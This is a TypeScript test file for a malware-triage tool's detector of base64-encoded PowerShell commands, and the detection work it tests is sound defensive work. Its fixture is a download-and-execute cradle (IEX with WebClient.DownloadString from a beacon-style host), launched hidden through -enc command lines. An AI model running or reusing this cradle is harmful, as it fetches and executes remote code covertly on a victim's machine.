import { describe, expect, it } from 'vitest';
import { triageBytes } from '../pipeline/bytes.js';
import { findEncodedCommands } from '../../extract/indicators/encoded-commands.js';

const enc = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
const CMD = 'IEX (New-Object Net.WebClient).DownloadString("http://update-cdn.kx-beacon.org/a.ps1")';

describe('findEncodedCommands', () => {
  it('decodes -EncodedCommand and the short forms PowerShell accepts, quoted or not, in any case', () => {
    for (const sw of ['-EncodedCommand', '-enc', '-EC', '-e', '/enc', '-encodedc']) {
      for (const q of ['', '"', "'"]) {
        const text = `cmd /c powershell.exe -nop -w hidden ${sw} ${q}${enc(CMD)}${q}`;
        const got = findEncodedCommands(text);
        expect(got.map((c) => c.text), `${sw} ${q}`).toEqual([CMD]);
        expect(text.slice(got[0]!.start, got[0]!.end)).toBe(enc(CMD));
      }
    }
  });

  it('leaves other switches, short arguments and base64 that is not UTF-16 text', () => {
    expect(findEncodedCommands(`grep -e ${enc(CMD)}`)).toHaveLength(1); // -e is read as -EncodedCommand wherever it is
    expect(findEncodedCommands(`powershell -ExecutionPolicy ${enc(CMD)}`)).toEqual([]);
    expect(findEncodedCommands('powershell -enc SQBFAFgA')).toEqual([]);
    expect(findEncodedCommands(`powershell -enc ${Buffer.from('plain ascii text, not utf-16 at all').toString('base64')}`)).toEqual([]);
    expect(findEncodedCommands(`powershell -enc ${Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 37) & 255)).toString('base64')}`)).toEqual([]);
  });

  it('stays linear on hostile text', () => {
    const t0 = performance.now();
    findEncodedCommands(' -e '.repeat(250_000) + 'A'.repeat(1_000_000));
    findEncodedCommands(` -enc ${'QQBB'.repeat(500_000)}`);
    // A generous bound on a shared machine: quadratic work here would take minutes.
    expect(performance.now() - t0).toBeLessThan(5_000);
  });
});

describe('triage of a file that carries an encoded command', () => {
  it('shows the command, flags it, and lists its indicators at the offset of the base64 (UTF-16 strings too)', () => {
    const line = `powershell -w hidden -enc ${enc(CMD)}`;
    const wide = Buffer.from(line, 'utf16le');
    const bytes = Buffer.concat([Buffer.from('MZ\0\0', 'latin1'), Buffer.alloc(60), wide, Buffer.alloc(8)]);
    const r = triageBytes(bytes, { path: 'lnk.bin', yara: null, capabilities: null });
    const at = 64 + 2 * line.indexOf(enc(CMD));
    expect(r.details['decoded_commands']).toEqual([{ kind: 'powershell-encoded-command', offset: at, command: CMD }]);
    const url = r.iocs.find((i) => i.type === 'url');
    expect(url?.value).toBe('http://update-cdn.kx-beacon.org/a.ps1');
    expect(url?.file_offsets).toEqual([at]);
    expect(url?.tags).toContain('decoded');
  });
});
